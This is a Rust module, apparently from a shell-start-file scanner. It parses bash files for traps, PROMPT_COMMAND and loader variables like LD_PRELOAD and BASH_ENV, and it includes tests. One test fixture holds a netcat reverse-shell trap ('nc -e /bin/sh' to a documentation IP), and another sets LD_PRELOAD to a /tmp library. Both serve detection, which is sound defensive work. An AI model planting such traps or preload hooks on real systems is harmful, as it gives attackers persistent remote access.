//! What a shell start file sets up for later: traps, prompt commands, variables for the loader.
//!
//! bash(1), "trap" and `PROMPT_COMMAND`. The commands a start file runs at once are the whole
//! file; these are the ones that wait. Statements are found line by line, so that an open quote
//! in one line hides nothing in the next; only a trap's own body may go on over lines.

use crate::{BadLine, Line, Text, lines};

use super::{Found, environment, trim};

/// A trap body is followed over at most this many lines.
const LONGEST_TRAP: usize = 64;

/// Something a start file arranges.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Arranged {
    /// `trap BODY SIGNAL...`
    Trap {
        /// The commands run.
        body: Text,
        /// `EXIT`, `DEBUG`, `INT`, ...
        signals: Vec<Text>,
    },
    /// `PROMPT_COMMAND=BODY` or `PS0=...`: run before each prompt.
    Prompt(Text),
    /// `export LD_PRELOAD=...`, `BASH_ENV=...`: a variable by which programs load or run more.
    Variable(environment::Assignment),
}

/// What the file arranges.
pub fn arranged(content: &[u8]) -> Vec<Result<Found<Arranged>, BadLine>> {
    let all: Vec<_> = lines(content).collect();
    let mut found = Vec::new();
    for (index, line) in all.iter().enumerate() {
        match line {
            Ok(line) => {
                let following = all.get(index + 1..).unwrap_or_default();
                for statement in statements(line.bytes) {
                    let value = arranged_by(statement, following);
                    found.extend(value.map(|value| Ok(Found { line: line.number, value })));
                }
            }
            Err(bad) => found.push(Err(bad.clone())),
        }
    }
    found
}

fn arranged_by(statement: &[u8], following: &[Result<Line<'_>, BadLine>]) -> Option<Arranged> {
    let statement = trim(statement);
    if let Some(rest) = after_word(statement, b"trap") {
        return trap(rest, following);
    }
    let set = environment::assignment(statement)?;
    if set.name == "PROMPT_COMMAND" {
        Some(Arranged::Prompt(set.value))
    } else {
        let counts =
            environment::loads_library(&set.name) || environment::names_start_file(&set.name);
        counts.then_some(Arranged::Variable(set))
    }
}

/// `rest` of a statement that begins with `word`, also after `builtin` or `command`.
fn after_word<'a>(statement: &'a [u8], word: &[u8]) -> Option<&'a [u8]> {
    let plain = [&b"builtin "[..], b"command "].iter().find_map(|p| statement.strip_prefix(*p));
    let rest = plain.map_or(statement, trim).strip_prefix(word)?;
    rest.first().is_some_and(u8::is_ascii_whitespace).then(|| trim(rest))
}

fn trap(rest: &[u8], following: &[Result<Line<'_>, BadLine>]) -> Option<Arranged> {
    let rest = rest.strip_prefix(b"-- ").map_or(rest, trim);
    let mut text = rest.to_vec();
    let mut more = following.iter().take(LONGEST_TRAP);
    while open_quote(&text) {
        let Some(Ok(line)) = more.next() else { break };
        text.push(b'\n');
        text.extend_from_slice(line.bytes);
    }
    let mut words = shell_words(&text).into_iter();
    let body = words.next()?;
    let signals: Vec<Text> = words.take_while(is_signal).collect();
    let sets = !signals.is_empty() && !body.is_empty() && !body.as_bytes().starts_with(b"-");
    sets.then_some(Arranged::Trap { body, signals })
}

fn is_signal(word: &Text) -> bool {
    let bytes = word.as_bytes();
    !bytes.is_empty() && bytes.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'+')
}

fn open_quote(text: &[u8]) -> bool {
    Quotes::after(text).quote.is_some()
}

/// The statements of one line, split at `;`, `&`, `|` and braces outside quotes.
fn statements(line: &[u8]) -> Vec<&[u8]> {
    let mut quotes = Quotes::default();
    let mut found = Vec::new();
    let mut start = 0;
    for (at, &byte) in line.iter().enumerate() {
        let outside = quotes.step(byte);
        let comment = byte == b'#' && at.checked_sub(1).is_none_or(|before| blank(line, before));
        if outside && (b";&|{}()".contains(&byte) || comment) {
            found.push(line.get(start..at).unwrap_or_default());
            start = at + 1;
            if comment {
                return found;
            }
        }
    }
    found.push(line.get(start..).unwrap_or_default());
    found
}

fn blank(line: &[u8], at: usize) -> bool {
    line.get(at).is_some_and(u8::is_ascii_whitespace)
}

/// Where in quotes a scan is.
#[derive(Default)]
struct Quotes {
    quote: Option<u8>,
    escaped: bool,
}

impl Quotes {
    fn after(text: &[u8]) -> Self {
        let mut quotes = Self::default();
        for &byte in text {
            quotes.step(byte);
        }
        quotes
    }

    /// Takes one byte; whether it stands outside quotes and is not one itself.
    fn step(&mut self, byte: u8) -> bool {
        if std::mem::take(&mut self.escaped) {
            return false;
        }
        match (self.quote, byte) {
            (None | Some(b'"'), b'\\') => self.escaped = true,
            (Some(open), _) if open == byte => self.quote = None,
            (None, b'"' | b'\'') => self.quote = Some(byte),
            (None, _) => return true,
            (Some(_), _) => {}
        }
        false
    }
}

fn shell_words(text: &[u8]) -> Vec<Text> {
    let mut quotes = Quotes::default();
    let mut words = Vec::new();
    let mut word: Option<Vec<u8>> = None;
    for &byte in text {
        let was_quoted = quotes.quote;
        let outside = quotes.step(byte);
        if outside && (byte.is_ascii_whitespace() || byte == b';') {
            words.extend(word.take().map(Text::new));
            if byte == b';' || byte == b'\n' {
                break;
            }
        } else if was_quoted != quotes.quote || quotes.escaped {
            word.get_or_insert_default();
        } else {
            word.get_or_insert_default().push(byte);
        }
    }
    words.extend(word.map(Text::new));
    words
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn of(text: &str) -> Vec<(u32, Arranged)> {
        arranged(text.as_bytes()).into_iter().flatten().map(|one| (one.line, one.value)).collect()
    }

    fn trap(body: &str, signals: &[&str]) -> Arranged {
        let signals = signals.iter().map(|signal| Text::from(*signal)).collect();
        Arranged::Trap { body: Text::from(body), signals }
    }

    #[test]
    fn a_trap_gives_its_body_and_signals() {
        let got = of("x=1\ntrap 'nc -e /bin/sh 192.0.2.1 1; true' EXIT DEBUG # x\n");
        assert_eq!(got, [(2, trap("nc -e /bin/sh 192.0.2.1 1; true", &["EXIT", "DEBUG"]))]);
    }

    #[test]
    fn a_trap_may_stand_after_other_statements_and_go_on_over_lines() {
        let got = of("if true; then :; fi; trap \"a\nb\" INT\n");
        assert_eq!(got, [(1, trap("a\nb", &["INT"]))]);
    }

    #[test]
    fn an_open_quote_in_one_line_hides_no_later_trap() {
        let got = of("cat <<E\nit's\nE\ntrap x EXIT\n");
        assert_eq!(got, [(4, trap("x", &["EXIT"]))]);
    }

    #[test]
    fn taking_a_trap_away_or_naming_one_sets_none() {
        assert!(
            of("trap - EXIT\ntrap\n# trap x EXIT\necho trap x EXIT\ntraps x EXIT\n").is_empty()
        );
    }

    #[test]
    fn prompt_commands_and_loader_variables_are_found() {
        let got = of("PROMPT_COMMAND='history -a'\nexport LD_PRELOAD=/tmp/x.so\n");
        assert_eq!(got[0].1, Arranged::Prompt(Text::from("history -a")));
        assert!(matches!(got[1].1, Arranged::Variable(_)));
    }

    proptest! {
        #[test]
        fn any_bytes_parse(bytes: Vec<u8>) {
            arranged(&bytes);
        }

        #[test]
        fn an_unrelated_line_before_hides_no_trap(before in "[ -~]{0,40}") {
            prop_assume!(!before.contains("trap"));
            let got = of(&format!("{before}\ntrap x EXIT\n"));
            prop_assert!(got.contains(&(2, trap("x", &["EXIT"]))));
        }
    }
}
